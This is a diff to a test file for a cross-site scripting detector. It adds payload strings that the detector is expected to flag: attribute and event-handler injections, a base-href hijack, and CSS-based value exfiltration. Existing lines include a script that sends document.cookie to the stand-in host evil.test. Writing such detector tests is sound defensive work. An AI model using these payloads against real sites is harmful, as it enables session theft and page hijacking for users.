@@ -3,6 +3,11 @@ import { crossSiteScripting } from './cross-site-scripting.ts';
 
 testDetector(crossSiteScripting, {
   detects: [
+    { text: '-alert(1)-', confidence: 'high' },
+    { text: 'x" tabindex=1 onfocus=confirm(1)//', confidence: 'high' },
+    { text: '<base href="//evil.test/">', confidence: 'high' },
+    { text: 'input[value^="a"]{background:url(//evil.test/a)}', confidence: 'high' },
+    { text: '<img src=x onerror=print()>', confidence: 'high' },
     { text: '<script>alert(document.domain)</script>', confidence: 'high' },
     { text: 'Nice!"><script src=//evil.test></script>', confidence: 'high', part: '<script src=//evil.test>' },
     { text: '</title><script>fetch("//evil.test?"+document.cookie)</script>', confidence: 'high' },
